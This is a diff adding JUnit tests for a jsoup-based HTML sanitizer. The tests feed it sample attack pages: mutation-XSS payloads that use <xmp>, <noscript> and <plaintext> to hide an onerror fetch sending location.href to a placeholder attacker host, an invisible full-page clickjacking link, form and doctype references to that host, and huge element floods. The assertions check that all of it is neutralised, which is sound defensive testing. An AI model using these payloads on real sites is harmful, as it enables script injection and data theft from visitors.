@@ -100,6 +100,62 @@ class HtmlTest {
     return out;
   }
 
+  private static String cleaned(String page) throws Exception {
+    Sanitizer.Cleaned c = SANITIZER.clean(page.getBytes(StandardCharsets.UTF_8), "p.html", 1);
+    String out = new String(c.bytes(), StandardCharsets.UTF_8);
+    Sanitizer.Cleaned again = SANITIZER.clean(c.bytes(), "again.html", 2);
+    assertEquals(out, new String(again.bytes(), StandardCharsets.UTF_8), "cleaned again, the same");
+    assertEquals(List.of("the original file name"), again.report().removed());
+    return out;
+  }
+
+  /**
+   * Found by a review with Chromium as the reader. jsoup keeps the inside of {@code <xmp>} as raw
+   * data and wrote it out unescaped, as markup; read with scripting on (as every browser reads a
+   * page), a {@code </noscript>} inside an attribute then closed a fallback the cleaner never saw,
+   * and a picture's error handler ran and called the attacker. Raw text is now written as text.
+   */
+  @Test
+  void rawTextIsWrittenAsTextNeverAsMarkup() throws Exception {
+    for (String page : List.of(
+        "<!DOCTYPE html><p>EVIDENCE</p><xmp><noscript><p title=\"</noscript><img src=http://" + EVIL
+            + "/x onerror=fetch('http://" + EVIL + "/'+location.href)>\"></xmp>",
+        "<!DOCTYPE html><table><tr><td>EVIDENCE</td></tr><xmp><img src=http://" + EVIL + "/t></xmp></table>",
+        "<!DOCTYPE html><p>EVIDENCE</p><plaintext><img src=http://" + EVIL + "/p>",
+        "<!DOCTYPE html><head><noscript><link rel=stylesheet href=http://" + EVIL + "/n.css></noscript></head><p>EVIDENCE</p>",
+        "<!DOCTYPE html><p>EVIDENCE</p><noscript><img src=http://" + EVIL + "/n2></noscript>")) {
+      String out = cleaned(page);
+      assertTrue(out.contains("EVIDENCE"), out);
+      // what was raw text is now text (&lt;img …), and no element loads anything
+      assertFalse(out.contains("<img src") || out.contains("<noscript") || out.contains("<link") || out.contains("<xmp")
+          || out.contains("<plaintext"), out);
+    }
+  }
+
+  /** An invisible link stretched over the page would turn a click anywhere into a visit: its placing goes. */
+  @Test
+  void nothingIsLaidOverThePage() throws Exception {
+    String out = cleaned("<!DOCTYPE html><p>EVIDENCE</p><a href=\"https://example.org/x\" style=\"position:fixed;top:0;left:0;"
+        + "width:100%;height:100%;z-index:99;opacity:0\">.</a><style>a{position:absolute;inset:0}</style>"
+        + "<div style=\"color: red\">EVIDENCE-red</div>");
+    assertFalse(out.contains("position") || out.contains("opacity") || out.contains("inset"), out);
+    assertTrue(out.contains("<div style=\"color: red\">EVIDENCE-red</div>"), out);
+  }
+
+  /**
+   * Many elements to take out or rename, side by side, in one linear pass each (taking jsoup's
+   * nodes out one by one re-indexed their siblings every time: 800,000 unknown elements took longer
+   * than ten minutes); a form in a table's rows, a doctype's address, a path through a drive.
+   */
+  @Test
+  void manyElementsAndOddStructures() throws Exception {
+    String out = cleaned("<!DOCTYPE html><p>EVIDENCE</p>" + "<x></x>".repeat(200_000) + "<script></script>".repeat(200_000));
+    assertTrue(out.contains("EVIDENCE") && !out.contains("script") && out.contains("<span></span>"));
+    out = cleaned("<!DOCTYPE html SYSTEM \"http://" + EVIL + "/dtd\"><table><form action=\"http://" + EVIL + "/f\"><tr><td>EVIDENCE"
+        + "</td></tr></form></table><a href=\"C|/Windows/win.ini\">drive</a>");
+    assertTrue(out.startsWith("<!doctype html>") && out.contains("<td>EVIDENCE</td>") && !out.contains(EVIL)
+        && out.contains("<a>drive</a>"), out);
+  }
   /** A page in windows-1251 that says so is read right and written as UTF-8; one that does not is refused. */
   @Test
   void aPageInACodePageIsReadAsItSays() throws Exception {
@@ -109,6 +165,11 @@ class HtmlTest {
     String out = new String(c.bytes(), StandardCharsets.UTF_8);
     assertTrue(out.contains("<p>" + TEXT + "</p>") && out.contains("<meta charset=\"utf-8\">")
         && !out.contains("windows-1251"), out);
+    // declared after more than jsoup's first look (a long style first, as older pages have)
+    String late = page.replace("<meta charset=\"windows-1251\">", "<style>" + "p{color:red}\n".repeat(600) + "</style>"
+        + "<meta charset=\"windows-1251\">");
+    out = new String(SANITIZER.clean(late.getBytes("windows-1251"), "page.html", 1).bytes(), StandardCharsets.UTF_8);
+    assertTrue(out.contains("<p>" + TEXT + "</p>"), out.substring(0, 200));
     byte[] undeclared = page.replace("<meta charset=\"windows-1251\">", "").getBytes("windows-1251");
     RefusedFileException e = assertThrows(RefusedFileException.class, () -> SANITIZER.clean(undeclared, "page.html", 1));
     assertEquals(Kind.UNSUPPORTED_VARIANT, e.kind());
